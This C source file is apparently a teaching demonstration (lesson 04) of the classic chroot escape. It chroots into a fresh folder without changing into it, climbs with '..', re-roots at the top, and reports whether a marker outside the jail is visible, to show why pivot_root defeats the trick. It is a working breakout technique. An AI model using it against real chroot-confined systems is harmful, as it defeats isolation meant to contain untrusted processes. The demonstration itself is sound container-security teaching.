/* chroot-escape.c: lesson 04's demonstration — the classic way out of a chroot, and why it
 * leads nowhere after pivot_root.
 *
 *   chroot-escape [--jail DIR] MARKER
 *
 * With --jail, it first locks itself into DIR with chroot(2), the way a naive container
 * would. Then it tries the escape and reports whether the file MARKER (an absolute path that
 * exists only outside the jail) can be seen:
 *
 *   ESCAPED: MARKER is visible          the process reached the real root
 *   CONTAINED: MARKER is not visible    it did not
 *
 * It only ever looks at MARKER. The one thing it changes is a folder of its own, made in the
 * jail's root and removed again. Needs root (CAP_SYS_CHROOT). Exit status 0 when it printed
 * one of the two answers, 2 when something failed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int visible(const char *path)
{
	return access(path, F_OK) == 0;
}

int main(int argc, char **argv)
{
	const char *jail = NULL, *marker;
	char dir[] = ".chroot-escape-XXXXXX";
	int here;

	if (argc == 4 && strcmp(argv[1], "--jail") == 0)
		jail = argv[2];
	else if (argc != 2) {
		fprintf(stderr, "usage: %s [--jail DIR] MARKER\n", argv[0]);
		return 2;
	}
	marker = argv[argc - 1];

	if (jail) {
		/* The jail: chroot changes what "/" means for this process, nothing more. */
		if (chroot(jail) < 0 || chdir("/") < 0) {
			fprintf(stderr, "chroot %s: %s\n", jail, strerror(errno));
			return 2;
		}
		printf("in the jail %s: %s is %s\n", jail, marker,
		       visible(marker) ? "visible (!)" : "not visible");
	}

	/*
	 * The escape. The kernel stops ".." only at the process's root directory. So:
	 *  1. make a folder and chroot into it, but do NOT chdir there: the current directory
	 *     is now outside the root, where ".." is never stopped;
	 *  2. walk up with ".." until the top of the mount tree: at the top, ".." is itself;
	 *  3. chroot(".") makes that top the root again.
	 */
	here = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (here < 0 || !mkdtemp(dir)) {
		fprintf(stderr, "make a folder in /: %s\n", strerror(errno));
		return 2;
	}
	if (chroot(dir) < 0) {
		fprintf(stderr, "chroot %s: %s\n", dir, strerror(errno));
		unlinkat(here, dir, AT_REMOVEDIR);
		return 2;
	}
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		fprintf(stderr, "chroot .: %s\n", strerror(errno));
		unlinkat(here, dir, AT_REMOVEDIR);
		return 2;
	}
	int found = visible(marker);
	unlinkat(here, dir, AT_REMOVEDIR); /* by descriptor: works whatever "/" is now */
	if (found)
		printf("ESCAPED: %s is visible\n", marker);
	else
		printf("CONTAINED: %s is not visible\n", marker);
	return 0;
}
